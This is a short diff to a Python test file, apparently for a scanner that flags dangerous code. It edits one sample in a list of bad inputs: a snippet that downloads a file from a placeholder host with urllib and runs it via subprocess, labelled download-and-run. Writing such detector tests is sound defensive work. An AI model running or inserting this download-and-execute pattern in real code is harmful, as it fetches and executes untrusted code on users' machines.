@@ -94,8 +94,8 @@ BAD = [
         id="requests",
     ),
     pytest.param(
-        "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.test/a', '/tmp/a')\n"
-        "subprocess.Popen(['/tmp/a'])",
+        "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.test/a', './a.bin')\n"
+        "subprocess.Popen(['./a.bin'])",
         "download-and-run",
         3,
         id="download-file",
